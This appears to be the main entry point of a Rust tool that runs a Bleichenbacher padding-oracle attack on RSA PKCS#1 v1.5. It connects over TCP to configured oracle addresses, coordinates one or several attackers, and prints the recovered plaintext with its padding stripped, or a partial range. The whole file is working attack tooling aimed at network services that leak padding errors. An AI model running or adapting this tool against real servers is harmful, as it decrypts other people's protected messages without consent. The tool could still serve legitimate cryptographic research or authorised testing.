use bleichenbacher::attack::{Attack, Outcome};
use bleichenbacher::config::AttackConfig;
use bleichenbacher::coordinator::Coordinator;
use bleichenbacher::error::{Error, Result};
use bleichenbacher::oracle::TcpOracle;
use bleichenbacher::pool::OraclePool;
use num_bigint::BigInt;
use std::env;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

// Usage:
// ```
// RUST_LOG=debug cargo run --release -- attack.json
// ```
//
// Prints the recovered plaintext as a decimal integer and, when it is PKCS#1
// v1.5 padded, the message after the zero separator. A single attacker that
// loses its oracles prints the best-effort range instead.

fn connect(addrs: &[String], k: usize, response_len: usize) -> Result<Vec<TcpOracle>> {
    addrs
        .iter()
        .map(|addr| {
            info!(%addr, "connecting to oracle");
            Ok(TcpOracle::connect(addr.as_str(), k)?.with_response_len(response_len))
        })
        .collect()
}

/// No reduction is linked into the binary: rows are decoded as given, so only
/// ranges narrow enough to enumerate are reconciled.
fn unreduced(basis: &[Vec<BigInt>]) -> Vec<Vec<BigInt>> {
    warn!(dimension = basis.len(), "no lattice reducer available, decoding basis rows as is");
    basis.to_vec()
}

fn print_plaintext(m: &num_bigint::BigUint) {
    println!("message decimal: {}", m);
    let b = m.to_bytes_be();
    if b.first() == Some(&2) {
        if let Some(separator) = b.iter().skip(1).position(|&x| x == 0x00) {
            let unpadded = &b[(separator + 2)..];
            println!("decrypted plaintext: {}", String::from_utf8_lossy(unpadded));
        }
    }
}

fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
        .init();

    let path = env::args()
        .nth(1)
        .ok_or_else(|| Error::Config("usage: bleichenbacher <config.json>".to_string()))?;
    let config = AttackConfig::from_path(&path)?;
    let key = config.key()?;

    if config.attackers > 1 {
        let groups = config
            .addr_groups()
            .iter()
            .map(|addrs| connect(addrs, key.k, config.response_len))
            .collect::<Result<Vec<_>>>()?;
        let coordinator = Coordinator::new(
            key,
            config.c.clone(),
            config.attack_options(),
            config.pool_options(),
        );
        let m = coordinator.run(groups, &unreduced, rand::random())?;
        print_plaintext(&m);
        return Ok(());
    }

    let ports = connect(&config.addrs(), key.k, config.response_len)?;
    let pool = OraclePool::new(ports, config.pool_options())?;
    let mut attack = Attack::new(key, config.c.clone(), pool, config.attack_options());
    match attack.run(&mut rand::thread_rng())? {
        Outcome::Recovered(m) => print_plaintext(&m),
        Outcome::Partial(p) => {
            println!("range: {}", p.range);
            println!("s0: {}", p.s0);
            println!("s_last: {}", p.s_last);
        }
    }
    println!("queries: {}", attack.queries());
    Ok(())
}
